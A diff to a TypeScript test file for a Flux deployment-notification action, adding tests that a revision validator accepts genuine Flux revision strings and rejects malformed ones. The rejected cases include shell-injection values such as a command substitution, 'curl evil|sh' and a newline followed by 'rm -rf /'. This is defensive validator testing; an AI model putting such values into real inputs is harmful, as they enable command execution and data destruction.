@@ -3,18 +3,19 @@ import type { AttemptRecord, Outcome } from "../../action/deliver";
 import { MAX_RESPONSE_BYTES } from "../../action/transport";
 import {
   bodyExcerpt,
-  escapeHtml,
   failureMessage,
   MAX_RESPONSE_OUTPUT_CHARS,
   outputsFor,
   receiverReason,
   receiverTargets,
+  revisionOutput,
+  MAX_REVISION_CHARS,
   scrub,
   stepOutputs,
   summaryTable,
   type ReportContext,
 } from "../../action/report";
-import type { ErrorCategory, SendResult } from "../../action/transport";
+import type { ErrorCategory, SendResult } from "../../action/vocabulary";
 
 const URL_ = "https://flux.corp.internal/hook/0123abcd";
 const BY_NAME: ReportContext = {
@@ -300,13 +301,44 @@ describe("outputs and summary", () => {
     ]);
   });
 
-  test("escapeHtml", () => {
-    expect(escapeHtml(`<a href="x">&'</a>`)).toBe("&#60;a href=&#34;x&#34;&#62;&#38;&#39;&#60;/a&#62;");
-  });
-
   test("scrub replaces secrets, longest first", () => {
     expect(scrub("path /hook/abcdef and token abcd and abc", ["abcd", "/hook/abcdef", "abc"])).toBe(
       "path *** and token *** and abc",
     );
+  });
+});
+
+describe("revisionOutput: only Flux's revision shapes become the output", () => {
+  const SHA1 = "3b9c0f3a1d2e4b5c6d7e8f9a0b1c2d3e4f5a6b7c";
+  const SHA256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
+  test.each([
+    `main@sha1:${SHA1}`,
+    `refs/heads/feature/x-1@sha1:${SHA1}`,
+    `v1.2.3@sha256:${SHA256}`,
+    `sha256:${SHA256}`,
+    `main@sha256:${SHA256}`,
+    "6.5.0",
+    "1.2.3-rc.1+2aedd8e4b9b6",
+  ])("%s is set", (revision) => {
+    expect(revisionOutput(revision)).toEqual({ ok: true });
+  });
+
+  test.each([
+    ["a command substitution", `main$(id)@sha1:${SHA1}`],
+    ["an expression", `\${{ github.token }}@sha1:${SHA1}`],
+    ["quotes and a semicolon", `x";curl evil|sh;"@sha1:${SHA1}`],
+    ["a new line", `main@sha1:${SHA1}\nrm -rf /`],
+    ["a short checksum", "main@sha1:abc"],
+    ["upper-case hex", `main@sha1:${SHA1.toUpperCase()}`],
+    ["the pre-RFC-0005 form", `main/${SHA1}`],
+    ["too long", `${"a".repeat(MAX_REVISION_CHARS)}@sha1:${SHA1}`],
+    ["empty", ""],
+  ])("%s is left out, with a warning", (_name, revision) => {
+    const checked = revisionOutput(revision);
+    expect(checked.ok).toBe(false);
+    if (!checked.ok) {
+      expect(checked.warning).toStartWith("The `revision` output is not set");
+      expect(checked.warning).not.toMatch(/[\n\r]/);
+    }
   });
 });
